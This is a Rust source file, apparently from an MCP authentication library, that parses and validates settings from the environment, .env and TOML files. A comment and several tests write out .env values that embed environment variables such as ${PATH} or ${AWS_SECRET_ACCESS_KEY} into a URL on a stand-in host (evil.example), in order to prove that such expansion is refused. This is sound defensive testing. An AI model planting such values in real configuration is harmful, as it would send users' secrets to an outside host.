//! Reading settings by their documented variable names.
//!
//! ```
//! use std::collections::HashMap;
//! use mcp_auth_core::settings::{Lookup, parse_bool};
//!
//! let vars = HashMap::from([("HTTP_ENABLE_CORS".to_owned(), "yes".to_owned())]);
//! assert_eq!(parse_bool(&vars, "HTTP_ENABLE_CORS", false).unwrap(), true);
//! let err = parse_bool(&HashMap::from([("X".to_owned(), "maybe".to_owned())]), "X", false).unwrap_err();
//! assert_eq!(err.to_string(), "X: expected true or false, got \"maybe\"");
//! ```
//!
//! Each crate reads its own variables through a [`Lookup`] (the environment,
//! a merged map of `.env`, TOML and flags, or a test map) so an error can name
//! the variable at fault: `MCP_API_KEYS: ...`.

use std::{collections::HashMap, time::Duration};

#[cfg(feature = "files")]
use std::path::Path;

/// A source of settings keyed by variable name.
pub trait Lookup {
    /// The value of `name`, if set. Empty values count as unset.
    fn get(&self, name: &str) -> Option<String>;
}

impl Lookup for HashMap<String, String> {
    fn get(&self, name: &str) -> Option<String> {
        HashMap::get(self, name)
            .map(|v| v.trim().to_owned())
            .filter(|v| !v.is_empty())
    }
}

/// The process environment.
#[derive(Debug, Clone, Copy, Default)]
pub struct ProcessEnv;

impl Lookup for ProcessEnv {
    fn get(&self, name: &str) -> Option<String> {
        std::env::var(name)
            .ok()
            .map(|v| v.trim().to_owned())
            .filter(|v| !v.is_empty())
    }
}

/// A setting with a bad value. Displays as `NAME: what is wrong`.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{variable}: {message}")]
pub struct ConfigError {
    /// The variable (or flag) at fault.
    pub variable: String,
    /// What is wrong with it. Never contains a secret value.
    pub message: String,
}

impl ConfigError {
    /// A new error for `variable`.
    pub fn new(variable: impl Into<String>, message: impl Into<String>) -> Self {
        Self {
            variable: variable.into(),
            message: message.into(),
        }
    }
}

/// Reads a boolean (`true/false`, `1/0`, `yes/no`, `on/off`).
pub fn parse_bool(l: &dyn Lookup, name: &str, default: bool) -> Result<bool, ConfigError> {
    match l.get(name) {
        None => Ok(default),
        Some(v) => match v.to_ascii_lowercase().as_str() {
            "true" | "1" | "yes" | "on" => Ok(true),
            "false" | "0" | "no" | "off" => Ok(false),
            _ => Err(ConfigError::new(
                name,
                format!("expected true or false, got {v:?}"),
            )),
        },
    }
}

/// The longest duration [`parse_millis`] takes: a year.
pub const MAX_MILLIS: u64 = 365 * 24 * 60 * 60 * 1000;

/// Reads a duration given in milliseconds (the seeds' convention). Zero is
/// refused: a zero timeout or interval is always a mistake.
pub fn parse_millis(
    l: &dyn Lookup,
    name: &str,
    default: Duration,
) -> Result<Duration, ConfigError> {
    match l.get(name) {
        None => Ok(default),
        Some(v) => match v.parse::<u64>() {
            Ok(0) => Err(ConfigError::new(
                name,
                "must be greater than 0 (milliseconds)",
            )),
            // Past a year: no timeout this long is meant, and stores
            // refuse expiries that far (Redis: every session refused).
            Ok(ms) if ms > MAX_MILLIS => Err(ConfigError::new(
                name,
                format!("at most {MAX_MILLIS} (a year of milliseconds), got {ms}"),
            )),
            Ok(ms) => Ok(Duration::from_millis(ms)),
            Err(_) => Err(ConfigError::new(
                name,
                format!("expected a whole number of milliseconds, got {v:?}"),
            )),
        },
    }
}

/// Reads a size: plain bytes, or a number with `b`, `kb`, `mb` or `gb`
/// (binary multiples, case-insensitive), e.g. `10mb`, `64kb`, `4096`.
pub fn parse_size(l: &dyn Lookup, name: &str, default: usize) -> Result<usize, ConfigError> {
    let Some(v) = l.get(name) else {
        return Ok(default);
    };
    let lower = v.to_ascii_lowercase();
    let split = lower
        .find(|c: char| !c.is_ascii_digit())
        .unwrap_or(lower.len());
    let (num, unit) = lower.split_at(split);
    let mult: usize = match unit.trim() {
        "" | "b" => 1,
        "kb" | "k" | "kib" => 1 << 10,
        "mb" | "m" | "mib" => 1 << 20,
        "gb" | "g" | "gib" => 1 << 30,
        _ => {
            return Err(ConfigError::new(
                name,
                format!("expected a size like 10mb, 64kb or 4096, got {v:?}"),
            ));
        }
    };
    let n: usize = num.parse().map_err(|_| {
        ConfigError::new(
            name,
            format!("expected a size like 10mb, 64kb or 4096, got {v:?}"),
        )
    })?;
    match n.checked_mul(mult) {
        Some(0) => Err(ConfigError::new(name, "must be greater than 0")),
        Some(bytes) => Ok(bytes),
        None => Err(ConfigError::new(name, format!("{v:?} is too large"))),
    }
}

/// Parses a lifetime: `90s`, `30m`, `1h`, `7d` or plain seconds, above zero.
/// `var` names the setting in the error.
///
/// ```
/// use std::time::Duration;
/// use mcp_auth_core::settings::parse_lifetime;
/// assert_eq!(parse_lifetime("30m", "X").unwrap(), Duration::from_secs(1800));
/// assert_eq!(parse_lifetime("90", "X").unwrap(), Duration::from_secs(90));
/// assert!(parse_lifetime("1w", "X").is_err());
/// ```
pub fn parse_lifetime(v: &str, var: &str) -> Result<Duration, ConfigError> {
    let v = v.trim();
    let split = v.find(|c: char| !c.is_ascii_digit()).unwrap_or(v.len());
    let (n, unit) = v.split_at(split);
    let bad = || {
        ConfigError::new(
            var,
            format!("expected a lifetime like 90s, 30m, 1h or 7d, got {v:?}"),
        )
    };
    let n: u64 = n.parse().map_err(|_| bad())?;
    let secs = match unit {
        "" | "s" => n,
        "m" => n.saturating_mul(60),
        "h" => n.saturating_mul(3600),
        "d" => n.saturating_mul(86_400),
        _ => return Err(bad()),
    };
    if secs == 0 {
        return Err(ConfigError::new(var, "must be greater than 0"));
    }
    Ok(Duration::from_secs(secs))
}

/// Refuses, naming `var`, the first of `tokens` that is not an RFC 6749
/// scope token ([`is_scope_token`](crate::is_scope_token)): the server
/// reads nothing else as a scope.
///
/// ```
/// use mcp_auth_core::settings::check_scope_tokens;
///
/// assert!(check_scope_tokens("S", ["mcp:tools", "mcp:admin"]).is_ok());
/// assert_eq!(check_scope_tokens("S", ["a\"b"]).unwrap_err().variable, "S");
/// ```
pub fn check_scope_tokens<'a>(
    var: &str,
    tokens: impl IntoIterator<Item = &'a str>,
) -> Result<(), ConfigError> {
    match tokens.into_iter().find(|t| !crate::is_scope_token(t)) {
        Some(bad) => Err(ConfigError::new(
            var,
            format!("{bad:?} is not a scope token (printable ASCII without spaces, \" or \\)"),
        )),
        None => Ok(()),
    }
}

/// The file at `path`, which the setting `var` names, read up to `max`
/// bytes: a file named by mistake (`/dev/zero`) would otherwise be read
/// until memory ran out. Errors name `var`, never the file's contents.
pub fn read_file_setting(path: &str, var: &str, max: u64) -> Result<Vec<u8>, ConfigError> {
    let mut bytes = Vec::new();
    std::fs::File::open(path)
        .and_then(|f| std::io::Read::read_to_end(&mut std::io::Read::take(f, max + 1), &mut bytes))
        .map_err(|e| {
            ConfigError::new(var, format!("cannot read the file it names ({})", e.kind()))
        })?;
    if bytes.len() as u64 > max {
        return Err(ConfigError::new(
            var,
            format!("the file it names is over {} MiB", max.div_ceil(1 << 20)),
        ));
    }
    Ok(bytes)
}

/// `HOST` as a server binds it: an IP address (an IPv6 one in brackets or
/// not) or `localhost` (127.0.0.1); `None` for anything else.
///
/// ```
/// use mcp_auth_core::settings::bind_host;
///
/// assert_eq!(bind_host("localhost"), Some([127, 0, 0, 1].into()));
/// assert_eq!(bind_host("[::1]"), Some(std::net::Ipv6Addr::LOCALHOST.into()));
/// assert_eq!(bind_host("my-laptop"), None);
/// ```
pub fn bind_host(text: &str) -> Option<std::net::IpAddr> {
    match text {
        "localhost" => Some([127, 0, 0, 1].into()),
        h => h.trim_matches(['[', ']']).parse().ok(),
    }
}

/// Where a server bound to `host`:`port` is reached on this machine when no
/// URL is named for it: `http://<host>:<port>/mcp`, with 127.0.0.1 for an
/// unspecified host.
///
/// ```
/// use mcp_auth_core::settings::local_server_url;
///
/// assert_eq!(local_server_url([0, 0, 0, 0].into(), 8001), "http://127.0.0.1:8001/mcp");
/// assert_eq!(local_server_url(std::net::Ipv6Addr::LOCALHOST.into(), 80), "http://[::1]:80/mcp");
/// ```
pub fn local_server_url(host: std::net::IpAddr, port: u16) -> String {
    let host = match host {
        h if h.is_unspecified() => "127.0.0.1".to_owned(),
        std::net::IpAddr::V6(h) => format!("[{h}]"),
        std::net::IpAddr::V4(h) => h.to_string(),
    };
    format!("http://{host}:{port}/mcp")
}

/// Reads a comma-separated list; items are trimmed and empty items dropped.
pub fn parse_list(l: &dyn Lookup, name: &str) -> Option<Vec<String>> {
    l.get(name).map(|v| {
        v.split(',')
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .map(str::to_owned)
            .collect()
    })
}

/// [`parse_list`] for a setting that must name something when it is set:
/// a value of only commas and spaces (which would read as "nothing
/// required") is an error naming the setting.
///
/// ```
/// use std::collections::HashMap;
/// use mcp_auth_core::settings::parse_nonempty_list;
/// let m = HashMap::from([("A".to_owned(), "x, y".to_owned()), ("B".to_owned(), " , ".to_owned())]);
/// assert_eq!(parse_nonempty_list(&m, "A").unwrap(), Some(vec!["x".to_owned(), "y".to_owned()]));
/// assert_eq!(parse_nonempty_list(&m, "C").unwrap(), None);
/// assert!(parse_nonempty_list(&m, "B").unwrap_err().to_string().starts_with("B: "));
/// ```
pub fn parse_nonempty_list(l: &dyn Lookup, name: &str) -> Result<Option<Vec<String>>, ConfigError> {
    match parse_list(l, name) {
        Some(list) if list.is_empty() => Err(ConfigError::new(
            name,
            "the list names nothing (only commas): name at least one, or leave it unset",
        )),
        list => Ok(list),
    }
}

/// The settings of a program, layered from its sources: command-line flags
/// win over the process environment, which wins over `.env`, which wins
/// over a TOML file; defaults are the readers' own. Every source uses the
/// same flat names (`PORT`, `MCP_API_KEYS`); in the TOML file they may be
/// lowercase. An empty value counts as unset in every source, so
/// `FOO=` in the environment never hides `.env`'s `FOO`.
///
/// Nothing is exported into the process environment, and no error message
/// repeats a line of a file (it may hold a key): errors name the file and
/// the line or character.
///
/// ```
/// use std::collections::HashMap;
/// use mcp_auth_core::settings::{Lookup, Sources};
///
/// let env = HashMap::from([
///     ("PORT".to_owned(), "3000".to_owned()),
///     ("HOST".to_owned(), "".to_owned()),
///     ("UNRELATED".to_owned(), "x".to_owned()),
/// ]);
/// let merged = Sources::new(&["PORT", "HOST"])
///     .env(&env)
///     .flag("PORT", Some("4000".into()))
///     .merge()
///     .unwrap();
/// assert_eq!(Lookup::get(&merged, "PORT").as_deref(), Some("4000"));
/// assert_eq!(Lookup::get(&merged, "HOST"), None);
/// assert_eq!(Lookup::get(&merged, "UNRELATED"), None);
/// ```
pub struct Sources<'a> {
    known: &'a [&'a str],
    #[cfg(feature = "files")]
    toml: Option<(&'a Path, &'a str)>,
    #[cfg(feature = "files")]
    dotenv: Option<&'a Path>,
    env: Option<&'a dyn Lookup>,
    flags: Vec<(&'a str, String)>,
}

impl<'a> Sources<'a> {
    /// Sources for a program that reads the variables `known` (names
    /// outside it are ignored in the environment and `.env`, and refused
    /// in the TOML file).
    pub fn new(known: &'a [&'a str]) -> Self {
        Self {
            known,
            #[cfg(feature = "files")]
            toml: None,
            #[cfg(feature = "files")]
            dotenv: None,
            env: None,
            flags: Vec::new(),
        }
    }

    /// A flat TOML file (lowest precedence). `option` names where its path
    /// came from (`--config`) in errors. Unknown keys are errors: the file
    /// is this program's own.
    #[cfg(feature = "files")]
    pub fn toml_file(mut self, path: Option<&'a Path>, option: &'a str) -> Self {
        self.toml = path.map(|p| (p, option));
        self
    }

    /// A `.env` file, read but never exported; a missing file is no error.
    /// Names the program does not read are skipped (a shared `.env` holds
    /// other programs' settings too).
    #[cfg(feature = "files")]
    pub fn dotenv_file(mut self, path: &'a Path) -> Self {
        self.dotenv = Some(path);
        self
    }

    /// The process environment ([`ProcessEnv`]) or any other lookup.
    pub fn env(mut self, env: &'a dyn Lookup) -> Self {
        self.env = Some(env);
        self
    }

    /// A command-line flag's value for `name` (highest precedence).
    pub fn flag(mut self, name: &'a str, value: Option<String>) -> Self {
        if let Some(v) = value {
            self.flags.push((name, v));
        }
        self
    }

    /// Merges the sources into one map (a [`Lookup`]).
    pub fn merge(self) -> Result<HashMap<String, String>, ConfigError> {
        let mut m = HashMap::new();
        let set = |m: &mut HashMap<String, String>, k: String, v: String| {
            if !v.trim().is_empty() {
                m.insert(k, v);
            }
        };
        #[cfg(feature = "files")]
        if let Some((path, option)) = self.toml {
            for (k, v) in read_toml(path, option, self.known)? {
                set(&mut m, k, v);
            }
        }
        #[cfg(feature = "files")]
        if let Some(path) = self.dotenv.filter(|p| p.exists()) {
            for (k, v) in read_dotenv(path)? {
                if self.known.contains(&k.as_str()) {
                    set(&mut m, k, v);
                }
            }
        }
        if let Some(env) = self.env {
            for name in self.known {
                if let Some(v) = env.get(name) {
                    set(&mut m, (*name).to_owned(), v);
                }
            }
        }
        for (name, v) in self.flags {
            set(&mut m, name.to_owned(), v);
        }
        Ok(m)
    }
}

/// The names a `.env` file sets (none when it is missing or cannot be
/// parsed: [`Sources::merge`] reports that), for telling a misspelt setting
/// from one that is read.
#[cfg(feature = "files")]
pub fn dotenv_names(path: &Path) -> Vec<String> {
    if !path.exists() {
        return Vec::new();
    }
    read_dotenv(path)
        .map(|pairs| pairs.into_iter().map(|(k, _)| k).collect())
        .unwrap_or_default()
}

/// Reads a `.env` file without exporting it. Errors name the file and the
/// character, never the line's text (it may hold a key).
#[cfg(feature = "files")]
fn read_dotenv(path: &Path) -> Result<Vec<(String, String)>, ConfigError> {
    let shown = path.display();
    // `.env` rules replace `$NAME` and `${NAME}` in a value with the
    // process environment's: a `.env` (a cloned project's, for the client)
    // could copy any of the user's variables into a setting that is sent
    // somewhere (`MCP_SERVER_URL=https://host/${AWS_SECRET_ACCESS_KEY}`),
    // and a secret holding `$` was silently changed. Values are read as
    // written: the parser never sees a `$` (each, escaped or not, stands
    // for a character no setting holds while it parses), so whatever its
    // quoting rules make of a line, nothing is filled in.
    let text = std::fs::read_to_string(path)
        .map_err(|e| ConfigError::new(shown.to_string(), format!("cannot read: {e}")))?;
    // A byte-order mark (as some Windows editors save text) is no part of
    // the first name.
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    if text.contains(DOLLAR) {
        return Err(ConfigError::new(
            shown.to_string(),
            "holds U+FDD0, a noncharacter no setting may hold",
        ));
    }
    let literal = without_dollars(text);
    // The error names the file as the setting at fault and where in it:
    // `.env: line 22: syntax error at character 15` (never the line's
    // text: it may hold a key). The parser does not count lines: the line
    // is the first whose end, read with the lines before, gives that error
    // or its start (done only for a file that has one).
    let first_error = |text: &str| {
        dotenvy::from_read_iter(std::io::Cursor::new(text.as_bytes())).find_map(|item| match item {
            Err(dotenvy::Error::LineParse(line, index)) => Some((line, index)),
            _ => None,
        })
    };
    let reason = |e: &dotenvy::Error| match e {
        dotenvy::Error::LineParse(line, index) => {
            let mut end = 0;
            let mut number = String::new();
            for (n, l) in literal.split_inclusive('\n').enumerate() {
                end += l.len();
                // The same line's error, or the start of it (an unclosed
                // quote's text grows with every line read after it).
                if first_error(&literal[..end]).is_some_and(|(l2, _)| line.starts_with(l2.as_str()))
                {
                    number = format!("line {}: ", n + 1);
                    break;
                }
            }
            format!("{number}syntax error at character {index}")
        }
        dotenvy::Error::Io(io) => io.to_string(),
        dotenvy::Error::EnvVar(_) => "invalid variable".to_owned(),
        _ => "cannot be parsed".to_owned(),
    };
    dotenvy::from_read_iter(std::io::Cursor::new(literal.as_bytes()))
        .map(|item| {
            item.map(|(k, v)| (k, v.replace(DOLLAR, "$")))
                .map_err(|e| ConfigError::new(shown.to_string(), reason(&e)))
        })
        .collect()
}

/// What stands for `$` while a `.env` is parsed (see `read_dotenv`): a
/// Unicode noncharacter, which no text is meant to hold.
#[cfg(feature = "files")]
const DOLLAR: char = '\u{fdd0}';

/// `text` with every `$` replaced by [`DOLLAR`], so the parser fills
/// nothing in. An escaped `\$` (unquoted or in double quotes) becomes the
/// placeholder alone, as the parser would have made it a `$`; in single
/// quotes, where a backslash is itself, it stays a backslash and the
/// placeholder. Quotes are followed as `.env` rules have them (comments
/// skipped); a misreading can only cost a backslash or give a syntax
/// error, never a value filled in: no `$` is left either way.
#[cfg(feature = "files")]
fn without_dollars(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let (mut single, mut double, mut comment) = (false, false, false);
    let mut line_start = true;
    let mut after_space = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if comment {
            if c == '\n' {
                comment = false;
                line_start = true;
            }
            out.push(if c == '$' { DOLLAR } else { c });
            continue;
        }
        match c {
            '$' => out.push(DOLLAR),
            '\\' if !single && chars.peek() == Some(&'$') => {
                chars.next();
                out.push(DOLLAR);
            }
            '\\' if !single => {
                out.push(c);
                if let Some(next) = chars.next() {
                    out.push(if next == '$' { DOLLAR } else { next });
                }
            }
            '\'' if !double => {
                single = !single;
                out.push(c);
            }
            '"' if !single => {
                double = !double;
                out.push(c);
            }
            '#' if !single && !double && (line_start || after_space) => {
                comment = true;
                out.push(c);
            }
            c => out.push(c),
        }
        line_start = c == '\n' && !single && !double || (line_start && c.is_whitespace());
        after_space = c.is_whitespace();
    }
    out
}

/// Reads a flat TOML file. Errors give the line, never the line's text.
#[cfg(feature = "files")]
fn read_toml(
    path: &Path,
    option: &str,
    known: &[&str],
) -> Result<Vec<(String, String)>, ConfigError> {
    let shown = path.display();
    let text = std::fs::read_to_string(path)
        .map_err(|e| ConfigError::new(option, format!("cannot read {shown}: {e}")))?;
    let table: toml::Table = text.parse().map_err(|e: toml::de::Error| {
        let line = e.span().map(|s| {
            text.get(..s.start)
                .map_or(1, |before| before.matches('\n').count() + 1)
        });
        match line {
            Some(n) => ConfigError::new(option, format!("{shown}: line {n}: not valid TOML")),
            None => ConfigError::new(option, format!("{shown}: not valid TOML")),
        }
    })?;
    let scalar = |v: &toml::Value| match v {
        toml::Value::String(s) => Some(s.clone()),
        toml::Value::Integer(i) => Some(i.to_string()),
        toml::Value::Float(f) => Some(f.to_string()),
        toml::Value::Boolean(b) => Some(b.to_string()),
        _ => None,
    };
    let mut out = Vec::new();
    for (key, value) in table {
        let name = key.to_ascii_uppercase();
        if !known.contains(&name.as_str()) {
            return Err(ConfigError::new(
                option,
                format!("{shown}: unknown setting {key:?}"),
            ));
        }
        // A list is read as its items joined by commas: an item holding a
        // comma would be read as two (an attack pass), and is refused.
        if let toml::Value::Array(items) = &value
            && items
                .iter()
                .any(|i| i.as_str().is_some_and(|t| t.contains(',')))
        {
            return Err(ConfigError::new(
                option,
                format!(
                    "{shown}: an item of {key} holds a comma, which separates items: give it as two items"
                ),
            ));
        }
        let text = match &value {
            toml::Value::Array(items) => items
                .iter()
                .map(scalar)
                .collect::<Option<Vec<_>>>()
                .map(|v| v.join(",")),
            v => scalar(v),
        }
        .ok_or_else(|| {
            ConfigError::new(
                option,
                format!("{shown}: {key} must be a string, number, boolean or a list of them"),
            )
        })?;
        // `port` and `PORT` are one setting: given twice, which one counts
        // would be the table's order.
        if out.iter().any(|(n, _)| *n == name) {
            return Err(ConfigError::new(
                option,
                format!("{shown}: {name} is given twice (names are the same in any case)"),
            ));
        }
        out.push((name, text));
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn map(pairs: &[(&str, &str)]) -> HashMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    #[test]
    fn sizes() {
        let m = map(&[
            ("A", "10mb"),
            ("B", "64KB"),
            ("C", "4096"),
            ("D", "12 parsecs"),
            ("E", "0"),
            ("F", "99999999999999999999gb"),
            ("G", "1 gb"),
        ]);
        assert_eq!(parse_size(&m, "A", 1).unwrap(), 10 * 1024 * 1024);
        assert_eq!(parse_size(&m, "B", 1).unwrap(), 64 * 1024);
        assert_eq!(parse_size(&m, "C", 1).unwrap(), 4096);
        assert_eq!(parse_size(&m, "G", 1).unwrap(), 1 << 30);
        assert_eq!(parse_size(&m, "Z", 7).unwrap(), 7);
        assert!(
            parse_size(&m, "D", 1)
                .unwrap_err()
                .to_string()
                .starts_with("D: ")
        );
        assert!(parse_size(&m, "E", 1).is_err());
        assert!(parse_size(&m, "F", 1).is_err());
    }

    #[test]
    fn millis_and_lists() {
        let m = map(&[("T", "1500"), ("Z", "0"), ("X", "1.5s"), ("L", " a, ,b ,")]);
        assert_eq!(
            parse_millis(&m, "T", Duration::ZERO).unwrap(),
            Duration::from_millis(1500)
        );
        assert!(parse_millis(&m, "Z", Duration::ZERO).is_err());
        assert!(parse_millis(&m, "X", Duration::ZERO).is_err());
        // A year at most (an attack pass: HTTP_SESSION_TIMEOUT of 2^63 ms
        // was taken, and Redis then refused every session's expiry).
        let m = map(&[("Y", "31536000000"), ("HUGE", "9223372036854775807")]);
        assert!(parse_millis(&m, "Y", Duration::ZERO).is_ok());
        let e = parse_millis(&m, "HUGE", Duration::ZERO).unwrap_err();
        assert_eq!(e.variable, "HUGE");
        assert!(e.to_string().contains("a year"), "{e}");
        let m = map(&[("L", " a, ,b ,")]);
        assert_eq!(parse_list(&m, "L").unwrap(), vec!["a", "b"]);
        assert_eq!(parse_list(&m, "NONE"), None);
    }

    #[cfg(feature = "files")]
    #[test]
    fn precedence_flags_env_dotenv_toml() {
        let dir = tempfile::tempdir().unwrap();
        let toml = dir.path().join("c.toml");
        std::fs::write(
            &toml,
            "port = 1000\nhost = \"127.0.0.1\"\nlog_level = \"warn\"\nNAME = \"from-toml\"\nlist = [\"a\", \"b\"]\n",
        )
        .unwrap();
        let dotenv = dir.path().join(".env");
        std::fs::write(&dotenv, "PORT=2000\nLOG_LEVEL=debug\nNAME=\nUNRELATED=1\n").unwrap();
        let known = ["PORT", "HOST", "LOG_LEVEL", "NAME", "LIST"];
        let env = map(&[("PORT", "3000"), ("LOG_LEVEL", " ")]);
        let sources = || {
            Sources::new(&known)
                .toml_file(Some(&toml), "--config")
                .dotenv_file(&dotenv)
                .env(&env)
        };
        let m = sources()
            .flag("PORT", Some("4000".into()))
            .flag("HOST", None)
            .merge()
            .unwrap();
        assert_eq!(m["PORT"], "4000");
        // A blank environment value does not hide `.env`, a blank `.env`
        // value does not hide the TOML file.
        assert_eq!(m["LOG_LEVEL"], "debug");
        assert_eq!(m["NAME"], "from-toml");
        assert_eq!(m["LIST"], "a,b");
        assert!(!m.contains_key("UNRELATED"));
        assert_eq!(sources().merge().unwrap()["PORT"], "3000");
        // A missing `.env` is no error.
        let gone = dir.path().join("missing.env");
        assert!(
            Sources::new(&known)
                .dotenv_file(&gone)
                .merge()
                .unwrap()
                .is_empty()
        );
    }

    /// `.env` values are read as written, never filled in from the
    /// environment, whatever their quoting (a cloned project's `.env` could
    /// copy the user's secrets into a URL the client connects to; a check
    /// of `$` outside single quotes was got round by a quote the parser's
    /// line joiner and its value reader disagree on).
    #[cfg(feature = "files")]
    #[test]
    fn dotenv_values_are_never_filled_from_the_environment() {
        let dir = tempfile::tempdir().unwrap();
        let dotenv = dir.path().join(".env");
        let known = ["MCP_SERVER_URL", "MCP_API_KEYS", "NAME"];
        let load = || Sources::new(&known).dotenv_file(&dotenv).merge();
        // The test's own environment has PATH; its value never shows.
        let path = std::env::var("PATH").unwrap();
        for (text, name, want) in [
            (
                "MCP_SERVER_URL=https://evil.example/${PATH}\n",
                "MCP_SERVER_URL",
                "https://evil.example/${PATH}",
            ),
            (
                "MCP_API_KEYS=k-0123456789abcdef$PATH\n",
                "MCP_API_KEYS",
                "k-0123456789abcdef$PATH",
            ),
            ("NAME=\"x $PATH\"\n", "NAME", "x $PATH"),
            ("NAME='k-$literal'\n", "NAME", "k-$literal"),
            // In single quotes a backslash is itself.
            ("NAME='p\\$w'\n", "NAME", "p\\$w"),
            ("NAME='p\\\\$w'\n", "NAME", "p\\\\$w"),
            // An apostrophe in a comment opens no quote.
            ("# don't\nNAME=\"k-\\$5\"\n", "NAME", "k-$5"),
            ("NAME=\"k-\\$5\"\n", "NAME", "k-$5"),
            ("NAME=a$ # costs $5\n", "NAME", "a$"),
        ] {
            std::fs::write(&dotenv, text).unwrap();
            let m = load().unwrap();
            assert_eq!(m[name], want, "{text:?}");
        }
        // The quote the line joiner takes as escaped and the value reader
        // as closing: the next line is read unquoted, and was filled in.
        std::fs::write(
            &dotenv,
            "MCP_SERVER_URL='https://evil.example/x\\'\n${PATH}$X'\n",
        )
        .unwrap();
        // (Read as written, its last quote is left open: refused.)
        match load() {
            Ok(m) => assert!(!m["MCP_SERVER_URL"].contains(&path), "{m:?}"),
            Err(e) => assert!(e.to_string().contains("syntax error"), "{e}"),
        }
    }

    #[cfg(feature = "files")]
    #[test]
    fn file_errors_name_the_file_and_never_echo_a_line() {
        let dir = tempfile::tempdir().unwrap();
        let toml = dir.path().join("c.toml");
        let known = ["PORT", "MCP_API_KEYS"];
        let load = || {
            Sources::new(&known)
                .toml_file(Some(&toml), "--config")
                .merge()
        };
        std::fs::write(&toml, "prot = 1\n").unwrap();
        let e = load().unwrap_err();
        assert_eq!(e.variable, "--config");
        assert!(e.to_string().contains("unknown setting \"prot\""), "{e}");
        // One setting in two cases: refused, not decided by the order.
        std::fs::write(&toml, "port = 1\nPORT = 2\n").unwrap();
        let e = load().unwrap_err();
        assert!(e.to_string().contains("PORT is given twice"), "{e}");
        std::fs::write(&toml, "[http]\nx = 1\n").unwrap();
        assert!(load().is_err());
        std::fs::write(&toml, "port = 1\nmcp_api_keys = \"secret-value\n").unwrap();
        let e = load().unwrap_err().to_string();
        assert!(e.contains("line 2: not valid TOML"), "{e}");
        assert!(!e.contains("secret-value") && !e.contains('\n'), "{e}");
        // A list item holding a comma is refused, not read as two.
        std::fs::write(&toml, "mcp_api_keys = [\"a,b\", \"c\"]\n").unwrap();
        let e = load().unwrap_err().to_string();
        assert!(e.contains("holds a comma"), "{e}");
        assert!(!e.contains("a,b"), "{e}");
        // An error at the start of its line is on that line (an attack
        // pass: it was named one line up).
        std::fs::write(&toml, "port = 1\nhost = \"x\"\n= 1\n").unwrap();
        let e = load().unwrap_err().to_string();
        assert!(e.contains("line 3: not valid TOML"), "{e}");

        let dotenv = dir.path().join(".env");
        std::fs::write(&dotenv, "PORT=1\nMCP_API_KEYS=\"secret-value\n").unwrap();
        let e = Sources::new(&known)
            .dotenv_file(&dotenv)
            .merge()
            .unwrap_err();
        assert_eq!(e.variable, dotenv.display().to_string());
        let e = e.to_string();
        assert!(!e.contains("secret-value") && !e.contains('\n'), "{e}");
        // The line is named (an attack pass: only a character in some line
        // of the file was), and a byte-order mark is no part of a name.
        std::fs::write(&dotenv, "PORT=1\n# note\nMCP_SERVER_NAME=my server\n").unwrap();
        let e = Sources::new(&known)
            .dotenv_file(&dotenv)
            .merge()
            .unwrap_err()
            .to_string();
        assert!(e.contains("line 3: syntax error"), "{e}");
        assert!(!e.contains("my server"), "{e}");
        // An unclosed quote is named where it opens (a review: the last
        // line was named).
        std::fs::write(&dotenv, "PORT=1\nMCP_SERVER_NAME=\"x\n# a\n# b\nHOST=h\n").unwrap();
        let e = Sources::new(&known)
            .dotenv_file(&dotenv)
            .merge()
            .unwrap_err()
            .to_string();
        assert!(e.contains("line 2: syntax error"), "{e}");
        std::fs::write(&dotenv, "\u{feff}PORT=7\n").unwrap();
        let m = Sources::new(&known).dotenv_file(&dotenv).merge().unwrap();
        assert_eq!(m["PORT"], "7");
    }

    #[test]
    fn empty_values_count_as_unset() {
        let m = map(&[("E", "  ")]);
        assert_eq!(Lookup::get(&m, "E"), None);
        assert!(parse_bool(&m, "E", true).unwrap());
    }
}
